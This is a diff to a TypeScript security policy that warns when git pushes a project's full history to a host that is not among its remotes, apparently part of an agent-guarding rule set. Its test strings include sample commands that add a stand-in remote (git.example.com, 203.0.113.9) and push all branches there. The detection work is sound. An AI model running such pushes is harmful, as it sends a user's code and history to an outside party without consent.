@@ -1,5 +1,5 @@
 /** A project's history that is handed to somebody else. */
-import { all, command, effect, not } from "../condition.ts";
+import { all, any, command, effect, not } from "../condition.ts";
 import type { Policy } from "../policy.ts";
 import { DANGEROUS, ENGINES } from "./dangerous.ts";
 import { OWN_STORES } from "./receivers.ts";
@@ -167,12 +167,20 @@ export const historyExfiltration: readonly Policy[] = [
     ...DANGEROUS,
     action: "warn",
     id: "sys_dangerous_history_push",
-    title: "Pushing a project to a host that the statement makes its remote",
+    title: "Pushing a project to a host that is none of its remotes",
     severity: "high",
     why:
       "All that was ever in the project is there from then on; make sure that the host is the user's, and that the project may be there",
-    when: command("git", { verb: /^push\b/, options: ["=elsewhere"] }),
+    when: any(
+      command("git", { verb: /^push\b/, options: ["=elsewhere"] }),
+      command("git", {
+        verb: /^push\b/,
+        operand:
+          /^(?:https?|ssh|git):\/\/(?!(?:[^/@]*@)?(?:github\.com|gitlab\.com|bitbucket\.org|codeberg\.org|dev\.azure\.com|localhost)[:/])/,
+      }),
+    ),
     hits: [
+      "git push https://git.example.com/r.git main",
       "git remote add x https://git.example.com/r.git && git push x --all",
       "git remote add -f x http://203.0.113.9/r && git push -u x HEAD",
       "git remote set-url origin https://git.example.com/r.git; git push",
